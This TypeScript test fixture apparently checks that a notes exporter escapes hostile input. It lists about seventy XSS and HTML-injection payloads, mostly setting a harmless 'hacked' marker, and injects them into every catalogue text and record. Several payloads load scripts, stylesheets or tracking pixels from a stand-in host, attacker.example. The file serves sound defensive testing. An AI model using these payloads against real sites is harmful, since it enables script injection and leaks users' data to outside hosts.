import type { ExporterInput } from "@notewright/exporter";
import { parseMarkdown } from "@notewright/parser";

/** Texts that would run script, or ask for something, on a careless page. */
export const payloads: readonly string[] = [
  "<script>globalThis.hacked = 1</script>",
  "</style></title></textarea><script>globalThis.hacked = 1</script>",
  "<img src=x onerror='globalThis.hacked = 1'>",
  '"><svg onload="globalThis.hacked = 1">',
  "' onmouseover='globalThis.hacked = 1' x='",
  "<svg><script>globalThis.hacked = 1</script></svg>",
  "<svg><style><img src=x onerror=globalThis.hacked=1></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hacked=1>",
  "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
  "<object data='data:text/html,<script>parent.hacked = 1</script>'></object>",
  "<a href='javascript:globalThis.hacked = 1'>go</a>",
  "[go](javascript:globalThis.hacked=1)",
  "[go](<java\tscript:globalThis.hacked=1>)",
  "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](javascript:globalThis.hacked=1)",
  "![x](https://attacker.example/pixel.png)",
  "<form action=javascript:globalThis.hacked=1><button>go</button></form>",
  "<details open ontoggle='globalThis.hacked = 1'><summary>s</summary></details>",
  "<body onload=globalThis.hacked=1><meta http-equiv=refresh content='0;url=javascript:globalThis.hacked=1'>",
  "<base href=https://attacker.example/><link rel=stylesheet href=https://attacker.example/x.css>",
  "<style>@import 'https://attacker.example/x.css'</style><p style='background:url(https://attacker.example)'>x</p>",
  "<video src=https://attacker.example/v autoplay onplay=globalThis.hacked=1></video>",
  "<template><script>globalThis.hacked = 1</script></template><noscript><img src=x onerror=globalThis.hacked=1></noscript>",
  "<!--><script>globalThis.hacked = 1</script-->",
  "javascript:globalThis.hacked=1",
  "--></style></script><script>globalThis.hacked = 1</script>",
  "<!--<script>globalThis.hacked = 1",
  "</script><script>globalThis.hacked = 1</script>",
  "]);globalThis.hacked = 1;([",
  "\\u003cscript>globalThis.hacked = 1\\u003c/script>",
  "`+(globalThis.hacked = 1)+`",
  "&lt;img src=x onerror=globalThis.hacked=1&gt;",
  "&#60;script&#62;globalThis.hacked = 1&#60;/script&#62;",
  "<IMG SRC=x ONERROR=globalThis.hacked=1>",
  "<scr<script>ipt>globalThis.hacked = 1</scr</script>ipt>",
  "<<script>globalThis.hacked = 1//<</script>",
  "<script src=https://attacker.example/x.js></script>",
  "<script/xss src=data:,globalThis.hacked=1></script>",
  "<input autofocus onfocus=globalThis.hacked=1>",
  "<input type=radio name=theme value=dark checked onclick=globalThis.hacked=1>",
  "<button onclick=globalThis.hacked=1 formaction=javascript:globalThis.hacked=1>go</button>",
  "<select autofocus onfocus=globalThis.hacked=1><option>go</select>",
  "<textarea autofocus onfocus=globalThis.hacked=1></textarea>",
  "<marquee onstart=globalThis.hacked=1>go</marquee>",
  "<audio src=x onerror=globalThis.hacked=1></audio><video><source onerror=globalThis.hacked=1></video>",
  "<svg><animate onbegin=globalThis.hacked=1 attributeName=x dur=1s></svg>",
  "<svg><a xlink:href=javascript:globalThis.hacked=1><text>go</text></a></svg>",
  "<svg><use href=data:image/svg+xml,%3Csvg%20onload=globalThis.hacked=1%3E></use></svg>",
  "<svg></p><style><a id='</style><img src=x onerror=globalThis.hacked=1>'>",
  "<noscript><p title='</noscript><img src=x onerror=globalThis.hacked=1>'>",
  "<form id=page:search><input name=nodeName></form><img name=getElementById>",
  "<div id=page:hits role=listbox><a role=option href=javascript:globalThis.hacked=1>go</a></div>",
  "<form class=search data-scripts='[\"https://attacker.example/x.js\"]' data-root=https://attacker.example/></form>",
  "<a href='java&#x73;cript:globalThis.hacked=1'>go</a><a href='&#1;javascript:globalThis.hacked=1'>go</a>",
  "<a href='vbscript:globalThis.hacked=1'>go</a><a href='https://a.example' target=_blank ping=https://attacker.example>go</a>",
  "[go](javascript&colon;globalThis.hacked=1)",
  "[go][r]\n\n[r]: javascript:globalThis.hacked=1",
  "![x][r]\n\n[r]: https://attacker.example/pixel.png",
  "<javascript:globalThis.hacked=1>",
  "| a | b |\n| - | - |\n| <img src=x onerror=globalThis.hacked=1> | </table><script>globalThis.hacked = 1</script> |",
  "```\n</code></pre><script>globalThis.hacked = 1</script>\n```",
  "```html\n</code></pre><script>globalThis.hacked = 1</script><a onclick='globalThis.hacked = 1'>\n```",
  '```bash\necho "</span></code></pre><img src=x onerror=globalThis.hacked=1>" # <script>globalThis.hacked = 1</script>\n```',
  '```js"onmouseover=globalThis.hacked=1\n`<svg onload=globalThis.hacked=1>` + <script>globalThis.hacked = 1</script>\n```',
  "$\\href{javascript:globalThis.hacked=1}{go}$ $\\url{javascript:globalThis.hacked=1}$",
  "$\\text{go </mtext></math><script>globalThis.hacked = 1</script>}$",
  "$\\text{go <img src=x onerror=globalThis.hacked=1>} </annotation></math><svg onload=globalThis.hacked=1>$",
  "$\\class{x' onmouseover='globalThis.hacked=1}{go} \\htmlData{x=1}{go}$ $\\id{page:search}{go}$",
  "$\\style{background:url(https://attacker.example)}{go}$ $\\includegraphics{https://attacker.example/pixel.png}$",
  "$$\\color{red;background:url(https://attacker.example)}{go} \\label{page:main}\\ref{javascript:globalThis.hacked=1}$$",
];

/** Keys whose values other records refer to, or that are not text for people. */
const kept = new Set(["id", "note", "category", "parent", "icon", "entry", "role", "resolvedFrom", "sha256", "kind"]);
const keptLists = new Set(["entries", "assets", "comparisons", "mentions"]);

/**
 * The input with the payload in every text of the catalogue, and as the content of every record. Texts are numbered: the quiz asks
 * nothing that a title says, nor one thing twice.
 */
export function withPayload(input: ExporterInput, payload: string): ExporterInput {
  let count = 0;
  const catalogue = replaceTexts(structuredClone(input.catalogue), () => `${payload} ${++count}`);
  return { ...input, catalogue, content: () => parseMarkdown(`${payload}\n\n# ${payload}\n\n* ${payload}\n`) };
}

function replaceTexts<T>(value: T, payload: () => string, key = ""): T {
  if (typeof value === "string") return (kept.has(key) ? value : payload()) as T;
  if (Array.isArray(value)) {
    const areIds = keptLists.has(key) && value.every((item) => typeof item === "string");
    return (areIds ? value : value.map((item) => replaceTexts(item, payload, key))) as T;
  }
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, replaceTexts(item, payload, name)])) as T;
}
